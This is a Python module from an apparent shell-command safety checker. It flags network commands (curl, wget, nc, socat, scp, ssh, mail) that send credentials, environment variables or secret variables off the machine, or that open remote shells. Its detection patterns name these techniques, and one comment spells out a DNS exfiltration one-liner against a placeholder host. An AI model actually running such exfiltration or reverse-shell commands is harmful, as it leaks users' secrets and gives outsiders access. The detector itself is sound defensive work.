"""Shell handlers for commands that reach other machines: downloads, uploads, sockets, remote copies."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from interpreter_lsp.safety.context import Context
from interpreter_lsp.safety.places import PathKind, check_write, classify_path
from interpreter_lsp.safety.rules import (
    DNS_COMMANDS,
    DOWNLOADERS,
    KNOWN_API_HOSTS,
    NETWORK_COMMANDS,
    is_secret_variable,
)
from interpreter_lsp.safety.shell.call import Call, Handler, normalise, split_flags

_REMOTE_SPEC = re.compile(r"^([\w.-]+@)?[\w.-]+:")
_CURL_DATA_OPTIONS = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F",
                                "--form", "-T", "--upload-file", "--post-file", "--post-data",
                                "--body-file", "--json"})
_CURL_OUTPUT_OPTIONS = frozenset({"-o", "--output", "-O", "--output-document"})


def _downloader(call: Call, ctx: Context) -> None:
    call.tags.add("download")
    args = call.args
    for i, arg in enumerate(args):
        option, _, inline = arg.partition("=") if arg.startswith("--") else (arg, "", "")
        value = inline or (args[i + 1] if i + 1 < len(args) else "")
        if option in _CURL_DATA_OPTIONS or (option.startswith("-d") and len(option) > 2):
            if option.startswith("-d") and len(option) > 2 and option not in _CURL_DATA_OPTIONS:
                value = option[2:]
            _check_sent_value(value, call, ctx)
        elif option in _CURL_OUTPUT_OPTIONS and call.name == "wget" and value not in ("-", ""):
            ctx.downloaded.add(normalise(value, ctx))
            check_write(classify_path(value, ctx), ctx)
        elif option in ("-o", "--output") and call.name == "curl" and value not in ("-", ""):
            ctx.downloaded.add(normalise(value, ctx))
            check_write(classify_path(value, ctx), ctx)
    urls = [a for a in args if "://" in a]
    if call.name == "wget" and not any(a in ("-O", "-qO-", "-O-") or a.startswith("--output-document")
                                       for a in args):
        for url in urls:
            ctx.downloaded.add(normalise(url.rstrip("/").rsplit("/", 1)[-1], ctx))
    if call.name == "curl" and any(a in ("-O", "--remote-name") or re.fullmatch(r"-\w*O\w*", a)
                                   for a in args):
        for url in urls:
            ctx.downloaded.add(normalise(url.rstrip("/").rsplit("/", 1)[-1], ctx))


def _check_sent_value(value: str, call: Call, ctx: Context) -> None:
    file_part = value.split("@", 1)[1] if "@" in value and not value.startswith("http") else None
    if value.startswith("@") or (file_part is not None and "=" in value.split("@", 1)[0]):
        path = file_part if file_part is not None else value[1:]
        path = path.split(";", 1)[0]
        if path == "-":
            _check_stdin_sent(call, ctx)
            return
        where = classify_path(path, ctx)
        if where.kind in (PathKind.CREDENTIAL, PathKind.HISTORY, PathKind.DOTENV):
            ctx.add("high", f"sends secrets over the network: {where.shown}")
    elif call.name in ("curl", "wget") and value == "-":
        _check_stdin_sent(call, ctx)
    if "env" in call.tags and "$(" in value:
        ctx.add("high", "sends your environment variables (they may hold keys) over the network")


def _check_stdin_sent(call: Call, ctx: Context) -> None:
    if "env" in call.upstream:
        ctx.add("high", "sends your environment variables (they may hold keys) over the network")
    if "secrets" in call.upstream:
        ctx.add("high", "sends secrets (credentials, keys or shell history) over the network")


_VARIABLE = re.compile(r"\$\{?(\w+)")
_HEADER_OPTIONS = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user"})
_PRINTERS = frozenset({"echo", "printf", "printenv"})


def check_secrets_sent(call: Call, ctx: Context) -> None:
    """A secret-looking variable ($OPENAI_API_KEY) in the arguments of anything that reaches the network
    (a URL, a query string, a DNS name, a body) leaves the machine; printing one feeds the next stage."""
    if call.name in _PRINTERS:
        names = call.args if call.name == "printenv" else [m for a in call.args for m in _VARIABLE.findall(a)]
        if any(is_secret_variable(name) for name in names):
            call.tags.add("secrets")
        return
    if call.name not in NETWORK_COMMANDS:
        return
    if "env" in call.tags:
        ctx.add("high", f"sends your environment variables (they may hold keys) over the network ({call.name})")
    if (call.via_xargs or call.name in DNS_COMMANDS) and call.upstream & {"env", "secrets"}:
        # `printenv KEY | xxd -p | xargs -I{} host {}.x.example`: the secret becomes a name looked up in DNS
        ctx.add("high", f"sends secrets over the network, piped into {call.name}")
    host = _first_host(call.args)
    for i, arg in enumerate(call.args):
        for name in _VARIABLE.findall(arg):
            if not is_secret_variable(name):
                continue
            header = (i > 0 and call.args[i - 1] in _HEADER_OPTIONS) or arg.startswith(("--header=", "--user="))
            if header and host is not None and _known_api(host):
                ctx.add("medium", f"sends ${name} to {host}")
            else:
                ctx.add("high", f"sends a secret (${name}) over the network ({call.name})")


def _first_host(args: list[str]) -> str | None:
    for arg in args:
        if "://" in arg:
            return urlsplit(arg).hostname
    return None


def _known_api(host: str) -> bool:
    return any(host == known or host.endswith("." + known) for known in KNOWN_API_HOSTS)



def _netcat(call: Call, ctx: Context) -> None:
    flags, _ = split_flags(call.args, takes_value={"-p", "-s", "-w", "-i", "-q"})
    if flags & {"e", "c", "--exec", "--sh-exec", "--lua-exec"}:
        ctx.add("high", f"gives another machine a shell on this one ({call.name} -e)")
    if call.piped:
        _check_stdin_sent(call, ctx)


def _socat(call: Call, ctx: Context) -> None:
    if any(re.match(r"(?i)(exec|system):", a) for a in call.args):
        ctx.add("high", "connects a network socket to a shell (socat exec)")
    if call.piped:
        _check_stdin_sent(call, ctx)


def _remote_copy(call: Call, ctx: Context) -> None:
    _, operands = split_flags(call.args, takes_value={"-e", "-i", "-P", "-p", "-o", "-F", "-c", "-l"})
    if len(operands) < 2:
        return
    *sources, destination = operands
    if _REMOTE_SPEC.match(destination) and "://" not in destination:
        for source in sources:
            where = classify_path(source, ctx)
            if where.kind in (PathKind.CREDENTIAL, PathKind.HISTORY, PathKind.DOTENV):
                ctx.add("high", f"copies secrets to another machine: {where.shown}")
        ctx.add("medium", f"copies files to another machine: {destination}")
    else:
        check_write(classify_path(destination, ctx), ctx, verb="copies files")


_SSH_OPTIONS_WITH_VALUE = frozenset({"-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O",
                                     "-o", "-p", "-Q", "-R", "-S", "-W", "-w"})


def _ssh(call: Call, ctx: Context) -> None:
    ctx.add("medium", "connects to another machine (ssh)")
    if call.piped:
        _check_stdin_sent(call, ctx)
    _, operands = split_flags(call.args, takes_value=_SSH_OPTIONS_WITH_VALUE)
    if len(operands) > 1:  # a command for the other machine: as dangerous there as here
        ctx.nested("shell", " ".join(operands[1:]))


def _mail(call: Call, ctx: Context) -> None:
    if call.piped:
        _check_stdin_sent(call, ctx)



HANDLERS: dict[str, Handler] = {
    "nc": _netcat,
    "ncat": _netcat,
    "netcat": _netcat,
    "socat": _socat,
    "scp": _remote_copy,
    "rsync": _remote_copy,
    "ssh": _ssh,
    "mail": _mail,
    "sendmail": _mail,
    "telnet": _mail,
    **{name: _downloader for name in DOWNLOADERS},
}
